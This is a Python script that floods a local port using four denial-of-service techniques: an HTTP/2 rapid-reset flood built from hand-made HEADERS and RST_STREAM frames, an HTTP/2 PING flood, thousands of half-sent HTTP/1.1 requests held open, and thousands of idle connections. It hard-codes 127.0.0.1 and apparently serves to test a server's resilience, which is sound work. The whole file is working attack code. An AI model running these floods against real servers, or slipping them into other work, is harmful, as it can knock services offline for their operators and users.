"""Floods a port, until killed: python flood.py rapid-reset|pings|half-sent|idle PORT."""

import contextlib
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# https://www.rfc-editor.org/rfc/rfc9113#section-6
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
END_STREAM_AND_HEADERS = 0x05
# HPACK: :method GET, :scheme http, :path /, of the static table, and :authority "x" as a literal.
FIELDS = b"\x82\x86\x84\x41\x01x"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=10)


def open_http2(port: int) -> socket.socket:
    connection = connect(port)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return connection


def drain(connection: socket.socket) -> None:
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while connection.recv(1 << 20):
            pass
    connection.setblocking(True)


def flood(port: int, payloads: list[bytes]) -> None:
    """Send payloads in turn, and begin anew where the connection is closed."""
    print("started", flush=True)
    while True:
        with contextlib.suppress(OSError), open_http2(port) as connection:
            for payload in payloads:
                connection.sendall(payload)
                drain(connection)


def hold(port: int, count: int, first_bytes: bytes) -> None:
    """Hold connections; those that are closed are opened again."""
    connections: list[socket.socket] = []
    for _ in range(count):
        connection = connect(port)
        connection.sendall(first_bytes)
        connections.append(connection)
    print("started", flush=True)
    time.sleep(3600)


def main(name: str, port: int) -> None:
    if name == "rapid-reset":
        reset = struct.pack(">I", 8)
        streams = range(1, 200_000, 2)
        flood(
            port,
            [
                frame(HEADERS, END_STREAM_AND_HEADERS, stream, FIELDS) + frame(RST_STREAM, 0, stream, reset)
                for stream in streams
            ],
        )
    elif name == "pings":
        flood(port, [frame(PING, 0, 0, b"12345678") * 100] * 1000)
    elif name == "half-sent":
        hold(port, 4096, b"GET / HTTP/1.1\r\nHost: x\r\n")
    else:
        hold(port, 2000, b"")


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
